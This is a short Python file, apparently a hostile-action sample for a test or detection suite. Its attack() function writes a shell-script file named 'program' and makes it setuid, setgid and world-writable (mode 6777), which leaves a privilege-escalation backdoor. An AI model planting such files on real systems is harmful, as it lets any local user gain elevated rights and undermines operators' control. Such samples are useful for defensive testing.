"""Leave a program that gives rights away."""

import os

TELLS = "change the file system"


def attack(*arguments, **named):
    with open("program", "wb") as file:
        file.write(b"#!/bin/sh")
    os.chmod("program", 0o6777)
